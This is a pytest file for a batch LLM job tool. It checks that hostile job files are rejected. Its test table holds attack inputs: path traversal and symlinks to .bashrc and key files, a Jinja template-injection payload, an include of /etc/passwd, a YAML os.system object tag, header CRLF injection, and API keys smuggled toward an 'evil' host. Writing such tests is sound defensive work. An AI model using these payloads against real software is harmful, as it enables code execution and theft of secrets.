"""Job files of a hostile author: none reads or writes outside its tree, sends a secret, or runs anything."""

from __future__ import annotations

import json
import os
from dataclasses import dataclass, field
from typing import TYPE_CHECKING

import pytest
from anyio.from_thread import start_blocking_portal

from batch.testing import FaultServer, answer

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from tests.support.cli_support import Cli

SECRET = "sk-victims-own-key-0123456789abcdef"
PRIVATE = "the private notes of the victim"
HERE = "provider: openai\nbase_url: {here}/v1\nmodel: m\n"
EVIL = "provider: openai\nbase_url: {evil}/v1\nmodel: m\n"
PNG = b"\x89PNG\r\n\x1a\n" + PRIVATE.encode()


@dataclass(frozen=True)
class Attack:
    """A job file, the exit code, and words of the message; ``folder`` holds the job, below the home.

    ``files`` are written beside the job, ``links`` are symlinks (name → target). ``sent`` is what the server
    is told in all that it is sent, where the job runs.
    """

    job: str
    code: int
    said: str = ""
    folder: str = "work/project"
    files: dict[str, str | bytes] = field(default_factory=dict)
    links: dict[str, str] = field(default_factory=dict)
    sent: str | None = None
    name: str = "job.yaml"


ATTACKS: dict[str, Attack] = {
    # Outputs
    "an output that is a start-up file": Attack(
        HERE + "prompt: hi\noutput: {{path: ../../.bashrc}}\n", 2, "is outside"
    ),
    "an output by an absolute path": Attack(
        HERE + "prompt: hi\noutput: {{path: '{home}/.profile.jsonl'}}\n", 2, "is outside"
    ),
    "an output that is no result file": Attack(
        HERE + "prompt: hi\noutput: {{path: Makefile}}\n", 2, "must end in `.jsonl`"
    ),
    "an output that is a module": Attack(
        HERE + "prompt: hi\noutput: {{path: conftest.py}}\n", 2, "must end in `.jsonl`"
    ),
    "an output in a hidden folder": Attack(
        HERE + "prompt: hi\noutput: {{path: .git/hooks/post-commit.jsonl}}\n", 2, "is hidden"
    ),
    "a hidden output": Attack(HERE + "prompt: hi\noutput: {{path: .envrc.jsonl}}\n", 2, "is hidden"),
    "a hidden output by the job's name": Attack(HERE + "name: .envrc\nprompt: hi\n", 2, "is hidden"),
    "a name that leads up": Attack(
        HERE + "name: ../../x\nprompt: hi\n", 2, "not a valid name for an output file"
    ),
    "an output behind a link out": Attack(
        HERE + "prompt: hi\noutput: {{path: out.jsonl}}\n",
        2,
        "is outside",
        links={"out.jsonl": "../../.bashrc"},
    ),
    "an output in a linked folder": Attack(
        HERE + "prompt: hi\noutput: {{path: results/out.jsonl}}\n",
        2,
        "is outside",
        links={"results": "../.."},
    ),
    "a log behind a link out": Attack(
        HERE + "prompt: hi\n",
        2,
        "is outside",
        links={"output/job.jsonl.log": "../../../.bashrc"},
    ),
    "a lock behind a link out": Attack(
        HERE + "prompt: hi\n",
        2,
        "is outside",
        links={"output/job.jsonl.lock": "../../../.bashrc"},
    ),
    "a summary behind a link out": Attack(
        HERE + "prompt: hi\n",
        2,
        "is outside",
        links={"output/job.jsonl.summary.json": "../../../new"},
    ),
    "a record of reported failures behind a link out": Attack(
        HERE + "prompt: hi\n",
        2,
        "is outside",
        links={"output/job.jsonl.reported.json": "../../../new"},
    ),
    "an output that is a terminal": Attack(
        HERE + "prompt: hi\noutput: {{path: /dev/tty.jsonl}}\n", 2, "is outside"
    ),
    # Roots
    "jobs in the home do not lift the root to it": Attack(
        HERE + "prompt: file://../notes.txt\n", 2, "is outside", folder="jobs"
    ),
    "and write nothing there": Attack(
        HERE + "prompt: hi\noutput: {{path: ../notes.jsonl}}\n", 2, "is outside", folder="jobs"
    ),
    "jobs in jobs lift the root once": Attack(
        HERE + "prompt: file://../../notes.txt\n", 2, "is outside", folder="jobs/jobs"
    ),
    "jobs in a project lift it to the project": Attack(
        HERE + "prompt: file://../../../notes.txt\n", 2, "is outside", folder="work/project/jobs"
    ),
    # Prompts from files
    "a prompt from outside": Attack(HERE + "prompt: file://../../notes.txt\n", 2, "is outside"),
    "a prompt by an absolute path": Attack(HERE + "prompt: 'file://{home}/notes.txt'\n", 2, "is outside"),
    "a prompt that is hidden": Attack(
        HERE + "prompt: file://.env\n", 2, "is hidden", files={".env": f"KEY={PRIVATE}\n"}
    ),
    "a system message in a hidden folder": Attack(
        HERE + "prompt: hi\nsystem: file://.git/config\n", 2, "is hidden", files={".git/config": PRIVATE}
    ),
    "a prompt behind a link": Attack(
        HERE + "prompt: file://p.txt\n", 2, "is outside", links={"p.txt": "../../notes.txt"}
    ),
    "a prompt behind a link to what is hidden": Attack(
        HERE + "prompt: file://p.txt\n", 2, "is hidden", files={".env": PRIVATE}, links={"p.txt": ".env"}
    ),
    "a file named by data is text": Attack(
        HERE + "prompt: '{{{{ q }}}}'\ninputs: {{jsonl: rows.jsonl}}\n",
        0,
        files={"rows.jsonl": '{"q": "file://.env"}\n', ".env": PRIVATE},
        sent="file://.env",
    ),
    # Inputs
    "documents from outside": Attack(
        HERE + "prompt: '{{{{ text }}}}'\ninputs: {{files: ['../../*.txt']}}\n", 2, "is outside"
    ),
    "documents by an absolute path": Attack(
        HERE + "prompt: '{{{{ text }}}}'\ninputs: {{files: ['{home}/*.txt']}}\n", 2, "is outside"
    ),
    "hidden documents": Attack(
        HERE + "prompt: '{{{{ text }}}}'\ninputs: {{files: ['.ssh/*']}}\n",
        2,
        "hidden",
        files={".ssh/id": PRIVATE},
    ),
    "documents in hidden folders found by a wildcard": Attack(
        HERE + "prompt: '{{{{ text }}}}'\ninputs: {{files: ['.*/id']}}\n",
        2,
        "hidden",
        files={".ssh/id": PRIVATE},
    ),
    "a document behind a link": Attack(
        HERE + "prompt: '{{{{ text }}}}'\ninputs: {{files: ['*.md']}}\n",
        2,
        "is outside",
        links={"a.md": "../../notes.txt"},
    ),
    "a document behind a link to what is hidden": Attack(
        HERE + "prompt: '{{{{ text }}}}'\ninputs: {{files: ['*.md']}}\n",
        2,
        "is hidden",
        files={".env": PRIVATE},
        links={"a.md": ".env"},
    ),
    "a table from outside": Attack(
        HERE + "prompt: '{{{{ q }}}}'\ninputs: {{jsonl: ../../rows.jsonl}}\n", 2, "is outside"
    ),
    "tables in a hidden folder": Attack(
        HERE + "prompt: '{{{{ q }}}}'\ninputs: {{csv: ['rows.csv', '.cache/*.csv']}}\n",
        2,
        "is hidden",
        files={"rows.csv": "q\nhi\n", ".cache/a.csv": f"q\n{PRIVATE}\n"},
    ),
    "a hidden folder of tables": Attack(
        HERE + "prompt: '{{{{ q }}}}'\ninputs: {{csv: .cache}}\n",
        2,
        "is hidden",
        files={".cache/a.csv": f"q\n{PRIVATE}\n"},
    ),
    "a table behind a link to what is hidden": Attack(
        HERE + "prompt: '{{{{ q }}}}'\ninputs: {{csv: '*.csv'}}\n",
        2,
        "is hidden",
        files={".env": f"q\n{PRIVATE}\n"},
        links={"a.csv": ".env"},
    ),
    "tables behind a link to a folder that is hidden": Attack(
        HERE + "prompt: '{{{{ q }}}}'\ninputs: {{csv: data}}\n",
        2,
        "is hidden",
        files={".cache/a.csv": f"q\n{PRIVATE}\n"},
        links={"data": ".cache"},
    ),
    "documents behind a link to a folder that is hidden": Attack(
        HERE + "prompt: '{{{{ text }}}}'\ninputs: {{files: ['*/*.txt']}}\n",
        2,
        "is hidden",
        files={".cache/a.txt": PRIVATE},
        links={"data": ".cache"},
    ),
    "what is excluded may be hidden, for nothing is read there": Attack(
        HERE + "prompt: '{{{{ text }}}}'\ninputs: {{files: ['**/*.md', '!.git/**', '!.env']}}\n",
        0,
        files={"a.md": "a public text", ".git/b.md": PRIVATE, ".env": PRIVATE},
        sent="a public text",
    ),
    "but not outside": Attack(
        HERE + "prompt: '{{{{ text }}}}'\ninputs: {{files: ['*.md', '!../../**']}}\n",
        2,
        "is outside",
        files={"a.md": "a public text"},
    ),
    "a hidden table": Attack(
        HERE + "prompt: '{{{{ q }}}}'\ninputs: {{csv: .cache/rows.csv}}\n",
        2,
        "is hidden",
        files={".cache/rows.csv": f"q\n{PRIVATE}\n"},
    ),
    "an image from outside": Attack(HERE + "prompt: hi\nimages: ../../photo.png\n", 2, "is outside"),
    "a hidden image": Attack(
        HERE + "prompt: hi\nimages: .thumbs/a.png\n", 2, "is hidden", files={".thumbs/a.png": PNG}
    ),
    "an image that a row names": Attack(
        HERE + "prompt: hi\nimages: '{{{{ i }}}}'\ninputs: {{jsonl: rows.jsonl}}\n",
        2,
        "is outside",
        files={"rows.jsonl": '{"i": "../../photo.png"}\n'},
    ),
    "an image by a file's URL": Attack(
        HERE + "prompt: hi\nimages: 'file://{home}/photo.png'\n", 2, "neither a path nor an http"
    ),
    # Keys
    "a key in an address": Attack(
        EVIL.replace("/v1", "/${{OPENAI_API_KEY}}/v1") + "prompt: hi\n", 2, "is not trusted for"
    ),
    "a key in a query": Attack(EVIL.replace("/v1", "/v1?k=${{OPENAI_API_KEY}}") + "prompt: hi\n", 2, ""),
    "a key in a header": Attack(
        EVIL + "headers: {{x-title: '${{OPENAI_API_KEY}}'}}\nprompt: hi\n", 2, "is not trusted for"
    ),
    "a key for a stranger": Attack(
        EVIL + "api_key_env: OPENAI_API_KEY\nprompt: hi\n", 2, "is not trusted for"
    ),
    "a key file for a stranger": Attack(
        EVIL + "api_key_file: my.key\nprompt: hi\n", 2, "is not trusted for", files={"my.key": SECRET}
    ),
    "a key file from outside": Attack(HERE + "api_key_file: ../../my.key\nprompt: hi\n", 2, "is outside"),
    "a key for a proxy that reads along": Attack(
        HERE + "api_key_env: OPENAI_API_KEY\nproxy: '{evil}'\nprompt: hi\n", 2, "is not trusted for"
    ),
    "a variable in a prompt is text": Attack(
        EVIL + "prompt: 'my key: ${{OPENAI_API_KEY}} $OPENAI_API_KEY'\n", 0, sent="${OPENAI_API_KEY}"
    ),
    "a header that names another host": Attack(
        HERE + "headers: {{Host: evil.example}}\nprompt: hi\n", 2, "is set by the client"
    ),
    "a header that ends its line": Attack(
        HERE + 'headers: {{x-a: "1\\r\\nx-b: 2"}}\nprompt: hi\n', 2, "one line without control characters"
    ),
    # Bodies
    "another model in extra_body": Attack(
        HERE + "params: {{extra_body: {{model: dear}}}}\nprompt: hi\n", 2, "params.extra_body.model"
    ),
    "other messages in extra_body": Attack(
        HERE + "params: {{extra_body: {{messages: []}}}}\nprompt: hi\n", 2, "params.extra_body.messages"
    ),
    "many answers in extra_body": Attack(
        HERE + "params: {{extra_body: {{n: 50}}}}\nprompt: hi\n", 2, "params.extra_body.n"
    ),
    "another model in a row's extra_body": Attack(
        '{{"id": "a", "prompt": "hi", "params": {{"extra_body": {{"model": "dear"}}}}}}\n',
        2,
        "params.extra_body.model",
        name="job.jsonl",
    ),
    "many answers in a batch line's extra_body": Attack(
        '{{"custom_id": "a", "method": "POST", "url": "/v1/chat/completions", "body": {{"model": "m", '
        '"messages": [{{"role": "user", "content": "hi"}}], "extra_body": {{"n": 9}}}}}}\n',
        2,
        "body.extra_body.n",
        name="job.jsonl",
    ),
    # Code
    "a template that reaches for Python": Attack(
        HERE + "prompt: \"{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}\"\n", 2, ""
    ),
    "a template that includes a file": Attack(HERE + "prompt: \"{{% include '/etc/passwd' %}}\"\n", 2, ""),
    "a tag that makes objects": Attack(
        HERE + "prompt: !!python/object/apply:os.system ['touch {home}/owned']\n", 2, ""
    ),
    "a provider that is a module": Attack(
        HERE.replace("openai", "os.system") + "prompt: hi\n", 2, "expected `autonomous` or `openai`"
    ),
    "an engine that is a program": Attack(
        "provider: openai\nbase_url: local\nmodel: m\nengine: ./run.sh\nprompt: hi\n",
        2,
        "expected `llama`",
        files={"run.sh": "#!/bin/sh\ntouch ~/owned\n"},
    ),
    "an id that is a path": Attack(HERE + "prompts: [{{id: ../../../owned, prompt: hi}}]\n", 0, sent="hi"),
    "a name of a terminal's making": Attack(HERE + 'name: "a\\e]0;owned\\a"\nprompt: hi\n', 2, ""),
    "a schema that is fetched": Attack(
        HERE + "prompt: hi\nresponse_format: {{type: json_schema, json_schema: "
        "{{name: a, schema: {{$ref: '{evil}/s.json'}}}}}}\n",
        2,
        "points outside the schema",
    ),
    "rows of a hostile file": Attack(
        '{{"id": "a", "prompt": "file://../../notes.txt", "images": ["../../photo.png"]}}\n',
        2,
        "is outside",
        name="job.jsonl",
    ),
}


@pytest.fixture(scope="module")
def server() -> Iterator[FaultServer]:  # one for all: it only sees what it is sent
    hello = FaultServer(answer("Hello"))
    with start_blocking_portal() as portal, portal.wrap_async_context_manager(hello) as running:
        yield running


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_hostile_job_does_no_harm(attack: str, cli: Cli, server: FaultServer) -> None:
    row = ATTACKS[attack]
    home = cli.folder / "home"
    folder = home / row.folder
    outside: dict[str, str | bytes] = {
        ".bashrc": "alias ll='ls -l'\n",
        "notes.txt": PRIVATE,
        "rows.jsonl": json.dumps({"q": PRIVATE}) + "\n",
        "my.key": SECRET,
        "photo.png": PNG,
    }
    _write(home, outside)
    folder.mkdir(parents=True)
    _write(folder, row.files)
    for name, target in row.links.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).symlink_to(target)
    here = server.url
    evil = here.replace("127.0.0.1", "0.0.0.0")  # this machine, by a name that no key is trusted for
    text = row.job.format(here=here, evil=evil, home=home)
    (folder / row.name).write_text(text)
    before, seen = _files(home, folder), len(server.requests)
    where = ["--provider", "openai", "--base-url", f"{here}/v1", "--model", "m"]
    arguments = where if row.name.endswith(".jsonl") else []

    validated = cli("validate", str(folder / row.name), *arguments, OPENAI_API_KEY=SECRET)
    ended = cli("run", str(folder / row.name), *arguments, "-v", OPENAI_API_KEY=SECRET)

    received = server.requests[seen:]
    assert ended.code == row.code, ended.stderr
    assert row.said in ended.stderr
    asked = [request for request in received if request.method == "GET"]  # by `validate`: which models
    assert all(request.target.endswith("/models") and not request.body for request in asked)
    assert (len(received) > len(asked)) == (row.code == 0)
    assert _files(home, folder) == before
    for request in received:
        if request not in asked:
            assert row.sent is not None
            assert row.sent in json.dumps(request.messages)
        carried = f"{request.target} {request.headers}".encode() + request.body
        assert not [word for word in (SECRET, PRIVATE) if word.encode() in carried]
    for text in (ended.stdout, ended.stderr, validated.stdout, validated.stderr):
        assert not [word for word in (SECRET, PRIVATE, "\x1b]0;") if word in text]


def test_what_hidden_folders_hold_is_read_where_the_user_says_so(cli: Cli, server: FaultServer) -> None:
    _write(cli.folder / "project", {".env": "from the user's own folder", ".cache/b.txt": "and another"})
    job = cli.folder / "project" / "job.yaml"
    job.write_text(HERE.format(here=server.url) + "prompt: file://.env\n")
    assert cli("run", str(job)).code == 2
    assert cli("run", str(job), "--allow-path", str(job.parent)).code == 0
    job.write_text(HERE.format(here=server.url) + "name: second\nprompt: file://.cache/b.txt\n")
    assert cli("run", str(job), "--allow-path", str(job.parent / ".cache")).code == 0


def test_the_root_itself_may_lie_below_a_hidden_folder(cli: Cli, server: FaultServer) -> None:
    folder = cli.folder / ".local" / "share" / "project"
    _write(folder, {"p.txt": "hi"})
    (folder / "job.yaml").write_text(HERE.format(here=server.url) + "prompt: file://p.txt\n")
    assert cli("run", str(folder / "job.yaml")).code == 0
    assert (folder / "output" / "job.jsonl").exists()


@pytest.mark.parametrize("output", ["results.json", ".results", "../elsewhere.txt"])
def test_the_flag_writes_where_the_user_says(cli: Cli, server: FaultServer, output: str) -> None:
    _write(cli.folder / "project", {"job.yaml": HERE.format(here=server.url) + "prompt: hi\n"})
    path = cli.folder / "project" / output
    assert cli("run", "project/job.yaml", "-o", str(path)).code == 0
    assert path.exists()


def _write(folder: Path, files: dict[str, str | bytes]) -> None:
    for name, content in files.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content if isinstance(content, bytes) else content.encode())


def _files(home: Path, project: Path) -> dict[str, bytes]:
    """All files of the home outside of the job's own tree, and what they hold."""
    root = project.parent if project.name == "jobs" and project.parent != home else project
    return {
        str(path.relative_to(home)): path.read_bytes()
        for path in home.rglob("*")
        if path.is_file() and not path.is_relative_to(root) and not os.path.islink(path)
    }
